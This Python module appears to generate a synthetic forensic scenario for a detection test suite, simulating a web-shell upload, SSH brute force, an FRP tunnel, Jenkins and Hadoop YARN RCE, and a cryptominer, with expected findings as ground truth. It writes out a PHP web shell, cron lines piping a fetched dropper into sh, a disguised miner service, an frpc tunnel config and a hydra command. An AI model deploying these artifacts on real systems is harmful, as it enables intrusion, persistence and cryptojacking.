"""Seed case 7: a website hole, the bastion brute-forced, FRP, service RCEs, SystemdMiner.

The upload form of the public site on ``www-01`` takes a PHP web shell; its commands run the
SystemdMiner dropper as ``www-data`` (a crontab that re-fetches it, the miner). From there
the intruders guess the bastion's ``admin`` password over SSH, become root, install an FRP
client (``frpc``) that keeps a tunnel to their server, and the miner with its systemd unit
and the cron jobs that reconnect to the pool every hour. Through the tunnel they break the
unauthenticated Jenkins script console on ``jenkins-01`` and the Hadoop YARN REST API on
``hadoop-nn``, and use root's key on the bastion to log in to ``app-02``. ``db-pg`` only
logs failed guesses (clean); ``mon-01``'s disk came without logs or processes (unknown).
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path

from deminer.scenarios.net_logs import Network
from deminer.scenarios.seed.common import Persist, Truth, utc
from deminer.scenarios.seed.hosts_linux import LinuxBox, accepted_at, miner
from deminer.scenarios.web_logs import AccessLog

ATTACKER, FRPS = "203.0.113.77", "203.0.113.99"
DROPPER = "http://203.0.113.88/systemd.sh"
POOL, POOL_IP, PORT = "pool.hashvault.pro", "198.51.100.51", 443
MINER = "/usr/lib/systemd/systemd-logind-helper"
BOOT = utc("2024-06-01 05:00:00")
START = utc("2024-06-11 07:00:00")
SHELL = "/uploads/2024/06/avatar_3c9e.php"


def _systemdminer(box: LinuxBox, at: dt.datetime, truth: Truth, user: str = "root", ppid: int = 1) -> None:
    """SystemdMiner as root: unit + watchdog, hourly pool reconnect cron, the miner itself."""
    uid = {"root": 0, "www-data": 33, "jenkins": 1001}[user]
    miner(box, 5300, MINER, at + dt.timedelta(minutes=1), POOL, POOL_IP, PORT, comm=b"systemd-logind-h",
          uid=uid, ppid=ppid)
    if user == "root":
        unit = (f"[Unit]\nDescription=Login Manager Helper\nAfter=network.target\n\n[Service]\n"
                f"ExecStart={MINER} -o {POOL}:{PORT} --tls -B\nRestart=always\nRestartSec=15\n\n"
                "[Install]\nWantedBy=multi-user.target\n")
        box.unit("systemd-logind-helper.service", unit, at + dt.timedelta(minutes=1),
                 folder="/lib/systemd/system")
        box.file("/etc/cron.d/systemd-update",
                 f"0 * * * * root (curl -fsSL -m180 {DROPPER} || wget -q -T180 -O- {DROPPER}) | sh\n"
                 f"30 * * * * root {MINER} -o {POOL}:{PORT} --tls -B >/dev/null 2>&1\n",
                 at + dt.timedelta(minutes=2))
        truth.infect(box.name, at, Persist("systemd", "systemd-logind-helper.service"),
                     Persist("cron", "0 * * * *"), Persist("cron", "30 * * * *"))
    else:
        box.crontab(user, f"0 * * * * (curl -fsSL -m180 {DROPPER} || wget -q -T180 -O- {DROPPER}) | sh",
                    at + dt.timedelta(minutes=2))
        truth.infect(box.name, at, Persist("cron", "0 * * * *"))


def _exploit(net: Network, src: str, dst: str, port: int, requests: list[tuple[str, str, int]],
             at: dt.datetime) -> None:
    net.now = at - dt.timedelta(seconds=5)
    for method, uri, status in requests:
        c = net.conn(src, dst, port, service="http", duration=0.2, orig_bytes=900, resp_bytes=400,
                     orig_pkts=6, resp_pkts=5)
        c.extra["http"] = {"trans_depth": 1, "method": method, "host": f"{dst}:{port}", "uri": uri,
                           "version": "1.1", "user_agent": "python-requests/2.31.0", "request_body_len": 640,
                           "response_body_len": 120, "status_code": status, "status_msg": "OK",
                           "resp_mime_types": ["text/plain"]}


def build(out: Path, work: Path) -> Truth:
    truth = Truth(7, "Website hole, bastion brute force, FRP tunnel, service RCEs, SystemdMiner",
                  "web_exploit")
    plan = [("www-01", "10.7.1.10", "infected"), ("bastion", "10.7.0.4", "infected"),
            ("jenkins-01", "10.7.2.20", "infected"), ("hadoop-nn", "10.7.2.30", "infected"),
            ("app-02", "10.7.2.40", "infected"), ("db-pg", "10.7.2.50", "clean"),
            ("mon-01", "10.7.0.9", "unknown")]
    boxes: dict[str, LinuxBox] = {}
    for n, (name, ip, verdict) in enumerate(plan):
        truth.host(name, ip, verdict)
        boxes[name] = box = LinuxBox(work, name, ip, BOOT, START, seed=70 + n)
        box.auth.benign_login("admin", "192.0.2.10")
        box.auth.cron("root", "cd / && run-parts --report /etc/cron.hourly")
    www, bastion = boxes["www-01"], boxes["bastion"]
    net = Network(start=START, seed=7, resolver="10.7.0.2")
    www.listen(700, b"nginx", [b"nginx: master process /usr/sbin/nginx"], "/usr/sbin/nginx", 80)
    boxes["jenkins-01"].append("/etc/passwd", "jenkins:x:1001:1001:Jenkins,,,:/var/lib/jenkins:/bin/bash\n",
                               utc("2023-01-10 10:00:00"))
    boxes["jenkins-01"].listen(800, b"java", [b"/usr/bin/java", b"-jar", b"/usr/share/java/jenkins.war"],
                               "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", 8080, uid=1001)
    boxes["hadoop-nn"].listen(810, b"java", [b"/usr/bin/java", b"org.apache.hadoop.yarn.server."
                                             b"resourcemanager.ResourceManager"],
                              "/usr/lib/jvm/java-8-openjdk-amd64/bin/java", 8088, uid=1001)

    # 1. The web shell on www-01, in nginx's access log on the host (the collector copies it).
    site = AccessLog(vhost="www.corp.example", start=START, seed=7)
    site.benign(minutes=60)
    site.upload_webshell(ATTACKER, upload="/member/avatar/upload.php", shell=SHELL,
                         commands=("id", "uname+-a", f"curl+-fsSL+{DROPPER}%7Csh"))
    t_www = site.requests[-1].ts
    site.benign(minutes=30)
    log = www.root / "var/log/nginx/access.log"
    log.parent.mkdir(parents=True, exist_ok=True)
    site.write(log, fmt="nginx")
    www.file(f"/var/www/html{SHELL}", "<?php @system($_GET['cmd']); ?>\n", t_www - dt.timedelta(minutes=1))
    # The shell command ran under a php-fpm worker, whose child the miner still is.
    www.proc.add(720, b"php-fpm8.1", uid=33, ppid=710, cmdline=[b"php-fpm: pool www"],
                 exe="/usr/sbin/php-fpm8.1", starttime=500)
    www.proc.add(710, b"php-fpm8.1", cmdline=[b"php-fpm: master process (/etc/php/8.1/fpm/php-fpm.conf)"],
                 exe="/usr/sbin/php-fpm8.1", starttime=480)
    _systemdminer(www, t_www, truth, user="www-data", ppid=720)
    truth.patient_zero = {"www-01"}

    # 2. www-01 guesses the bastion's admin password; admin sudoes to root; FRP + miner.
    bastion.auth.clock = utc("2024-06-11 10:30:00")
    bastion.auth.brute_force(www.ip, ["root", "admin", "ops"], attempts=150, success_user="admin",
                             spacing=1.5)
    net.now = utc("2024-06-11 10:30:00")
    net.ssh_brute_force(www.ip, bastion.ip, connections=25, success=True)
    t_bastion = accepted_at(bastion, www.ip)
    bastion.auth.sudo("admin", "/bin/bash")
    truth.edge("www-01", "bastion", "ssh_brute_force", t_bastion)
    _systemdminer(bastion, t_bastion, truth)
    frp_at = t_bastion + dt.timedelta(minutes=4)
    bastion.file("/usr/local/frp/frpc.ini", f"[common]\nserver_addr = {FRPS}\nserver_port = 7000\n\n[ssh]\n"
                 "type = tcp\nlocal_ip = 127.0.0.1\nlocal_port = 22\nremote_port = 6022\n", frp_at)
    bastion.file("/usr/local/frp/frpc", b"\x7fELF\x02\x01\x01\x00" + bytes(64) + b"frp/client", frp_at, 0o755)
    bastion.unit("frpc.service", "[Unit]\nDescription=Frp Client Service\n\n[Service]\n"
                 "ExecStart=/usr/local/frp/frpc -c /usr/local/frp/frpc.ini\nRestart=on-failure\n\n"
                 "[Install]\nWantedBy=multi-user.target\n", frp_at)
    bastion.process(5400, b"frpc", [b"/usr/local/frp/frpc", b"-c", b"/usr/local/frp/frpc.ini"],
                    "/usr/local/frp/frpc", frp_at, remote=(FRPS, 7000))
    truth.persistence["bastion"].append(Persist("systemd", "frpc.service"))
    net.now = frp_at
    net.conn(bastion.ip, FRPS, 7000, duration=6 * 3600.0, orig_bytes=2_400_000, resp_bytes=9_800_000,
             state="S1", orig_pkts=9000, resp_pkts=11000)
    root_key = bastion.private_key("root", "bastion-root", utc("2022-09-01 08:00:00"))

    # 3. Through the tunnel: the Jenkins script console, the YARN REST API, root's key.
    for name, technique, port, reqs, at in (
            ("jenkins-01", "jenkins_rce", 8080, [("GET", "/script", 200), ("POST", "/scriptText", 200)],
             "2024-06-11 11:20:00"),
            ("hadoop-nn", "hadoop_rce", 8088, [("POST", "/ws/v1/cluster/apps/new-application", 200),
                                 ("POST", "/ws/v1/cluster/apps", 202)], "2024-06-11 11:35:00")):
        _exploit(net, bastion.ip, boxes[name].ip, port, reqs, utc(at))
        truth.edge("bastion", name, technique, utc(at))
        # Groovy's execute() and YARN's container both leave the shell a child of the JVM.
        _systemdminer(boxes[name], utc(at), truth, user="jenkins" if name == "jenkins-01" else "root",
                      ppid=800 if name == "jenkins-01" else 810)
    app = boxes["app-02"]
    app.authorized_key("root", root_key, utc("2022-09-01 08:05:00"))
    bastion.known_host("root", app.ip, app, utc("2022-09-01 08:05:00"))
    app.auth.clock = utc("2024-06-11 11:50:00")
    app.auth.benign_login("root", bastion.ip)
    t_app = accepted_at(app, bastion.ip)
    truth.edge("bastion", "app-02", "ssh_key", t_app)
    _systemdminer(app, t_app, truth)
    db = boxes["db-pg"]
    db.auth.clock = utc("2024-06-11 12:10:00")
    db.auth.brute_force(bastion.ip, ["root", "postgres"], attempts=60, spacing=1.0)
    bastion.history("root", [
        (t_bastion + dt.timedelta(minutes=5), "cd /usr/local/frp && systemctl enable --now frpc"),
        (t_app, f"ssh root@{app.ip}"), (utc("2024-06-11 12:10:00"), "./hydra -L u -P p ssh://10.7.2.50")])

    # Noise and the pool traffic; the backup server pulls every host.
    net.now = utc("2024-06-11 13:00:00")
    for name in sorted(truth.infected):
        net.miner(boxes[name].ip, POOL, POOL_IP, port=PORT, hours=1)
    for name, box in boxes.items():
        net.lookup("10.7.0.8", f"{name}.corp.example", [box.ip])
        net.conn("10.7.0.8", box.ip, 22, service="ssh", duration=25.0, orig_bytes=50_000,
                 resp_bytes=30_000_000, orig_pkts=600, resp_pkts=22_000)
        box.auth.clock = max(box.auth.clock, utc("2024-06-11 14:00:00"))
        box.auth.benign_login("backup", "10.7.0.8")
    for name, box in boxes.items():
        box.collect(out, logs=name != "mon-01", proc=name != "mon-01")
    net.write_zeek(out / "sensor" / "zeek")

    for name in sorted(truth.infected):
        truth.want(name, "impact.miner_process", "impact.mining_pool_reference")
    for name in ("www-01", "jenkins-01", "hadoop-nn", "bastion", "app-02"):
        truth.want(name, "persistence.cron_pipe_to_shell")
    for name in ("bastion", "hadoop-nn", "app-02"):
        truth.want(name, "persistence.unpackaged_system_unit")
    truth.want("bastion", "initial_access.ssh_brute_force_success", "command_and_control.net_frp_proxy")
    truth.want("db-pg", "credential_access.ssh_brute_force")
    truth.want("www-01", "persistence.webshell_upload", "persistence.webshell_request", needs="weblog")
    truth.want("bastion", "command_and_control.net_frp_proxy", "credential_access.net_ssh_brute_force",
               needs="network")
    truth.clean_may = {"credential_access.ssh_brute_force", "lateral_movement.stored_private_key"}
    truth.notes.append("The Jenkins and YARN exploits are seen by the sensor only (neither service writes an "
                       "access log): the edges bastion -> jenkins-01 / hadoop-nn come from Zeek's http.log.")
    return truth
